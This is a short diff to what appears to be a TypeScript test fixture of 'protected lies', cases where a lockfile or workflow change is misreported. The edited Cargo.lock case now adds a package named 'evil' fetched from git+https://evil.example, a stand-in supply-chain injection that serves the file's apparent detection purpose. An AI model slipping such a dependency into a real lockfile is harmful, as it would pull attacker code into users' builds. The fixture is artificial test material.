@@ -70,7 +70,7 @@ export const lies: readonly Lie[] = [
 export const protectedLies: readonly Lie[] = [
   ...rows("modify_lockfile", [
     ["npm", "package-lock.json", "{\"lockfileVersion\":3}\n", "{\"lockfileVersion\":2}\n"],
-    ["Cargo", "Cargo.lock", "version = 3\n", "version = 4\n"],
+    ["Cargo", "Cargo.lock", "version = 4\n", "version = 4\n\n[[package]]\nname = \"evil\"\nversion = \"1.0.0\"\nsource = \"git+https://evil.example/x#0123\"\n"],
     ["Go", "go.sum", "a v1.0.0 h1:a=\n", "a v1.0.0 h1:b=\n"],
   ]),
   ...rows("modify_workflow", [
